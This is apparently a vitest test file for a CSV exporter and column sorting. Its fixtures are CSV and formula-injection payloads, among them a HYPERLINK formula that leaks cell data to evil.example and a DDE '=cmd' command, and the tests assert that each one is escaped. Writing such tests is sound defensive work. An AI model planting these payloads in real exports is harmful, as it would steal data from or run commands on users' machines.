import fc from 'fast-check'
import { expect, it } from 'vitest'
import type { Column } from './column'
import { nextSort, sortKeyOf, sortOf, sortRows } from './column'
import { toCsv } from './csv'

const columns: Column<{ name: string; size: number }>[] = [
  { id: 'name', header: 'Name', isRowHeader: true, text: ({ name }) => name },
  { id: 'size', header: 'Size', text: ({ size }) => String(size), sortBy: ({ size }) => size },
]

it.each([
  ['plain', 'plain'],
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\nlines', 'two[U+000A]lines'],
  ['a;=1+1', '"a;=1+1"'],
  ['=1+1', "'=1+1"],
  ['+31', "'+31"],
  ['-x', "'-x"],
  ['@cmd', "'@cmd"],
  ['\tx', '[U+0009]x'],
  ['\r=1+1', '[U+000D]=1+1'],
  [' =1+1', "' =1+1"],
  ['\u00A0=1+1', "'\u00A0=1+1"],
  ['=HYPERLINK("http://evil.example/?"&A1,"x")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"'],
  ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
  ['|calc', "'|calc"],
  ['%0A=1+1', "'%0A=1+1"],
  ['＝1+1', "'＝1+1"],
  ['","=1+1', '""",""=1+1"'],
  ['a\r\n=1+1', 'a[U+000D][U+000A]=1+1'],
  ['exe\u202Egpj', 'exe[U+202E]gpj'],
  ['שלום', 'שלום'],
])('writes %j as %j', (name, written) => {
  expect(toCsv([{ name, size: 1 }], columns)).toBe(`Name,Size\r\n${written},1\r\n`)
})

it('keeps each row on one line and in as many fields as there are columns, none of them a formula', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (name) => {
      const [, row = '', end, ...more] = toCsv([{ name, size: 1 }], columns).split('\r\n')
      expect([end, more]).toEqual(['', []])
      const fields = [...row.matchAll(/("(?:[^"]|"")*"|[^",]*)(?:,|$)/g)].map(([, field]) => field ?? '')
      expect(fields.slice(0, -1)).toHaveLength(2)
      expect(fields[0]).not.toMatch(/^"?[=+\-@\t\r]/)
    }),
  )
})

it('sorts by a column, numbers as numbers', () => {
  const rows = [
    { name: 'b10', size: 9 },
    { name: 'b9', size: 10 },
  ]
  const names = (sort: string) => sortRows(rows, sort, sortKeyOf(columns, sort)).map(({ name }) => name)
  expect([names('name'), names('-name'), names('size'), names('nothing')]).toEqual([
    ['b9', 'b10'],
    ['b10', 'b9'],
    ['b10', 'b9'],
    ['b10', 'b9'],
  ])
})

it('is sorted by the names of the rows unless told, and by one click the other way round', () => {
  expect([sortOf(undefined, columns), sortOf('-size', columns), sortOf('no-column', columns)]).toEqual([
    'name',
    '-size',
    'name',
  ])
  expect([nextSort('name', 'name'), nextSort('-name', 'name'), nextSort('name', 'size')]).toEqual([
    '-name',
    'name',
    'size',
  ])
})
